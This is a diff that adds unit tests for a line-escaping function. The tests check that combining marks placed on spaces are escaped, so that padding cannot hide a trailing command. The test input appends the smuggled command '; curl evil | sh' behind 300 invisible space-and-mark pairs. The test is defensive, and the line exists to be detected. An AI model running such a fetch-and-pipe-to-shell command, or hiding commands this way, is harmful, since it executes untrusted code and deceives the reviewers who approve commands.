@@ -145,3 +145,19 @@ describe("the blank rule", () => {
     )
   })
 })
+
+describe("a mark riding on a blank (found by a red team)", () => {
+  it("a space and a combining mark, repeated, cannot draw rows of nothing: every mark on a blank is escaped, and the text reads back", () => {
+    for (const mark of ["\u0323", "\u{1bc9d}", "\u1161", "\u0315", "\u0301"]) {
+      const hidden = `npm test${` ${mark}`.repeat(300)}; curl evil | sh`
+      const shown = Escape.forLine(hidden)
+      expect(shown).not.toContain(mark)
+      expect(shown).toContain("; curl evil | sh")
+      expect(JSON.parse(`"${shown.replace(/\\u\{([0-9a-f]+)\}/g, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))}"`)).toBe(hidden)
+    }
+  })
+
+  it("marks on letters are left as they are (up to the run limit)", () => {
+    expect(Escape.forLine("cafe\u0301 nai\u0308ve")).toBe("cafe\u0301 nai\u0308ve")
+  })
+})
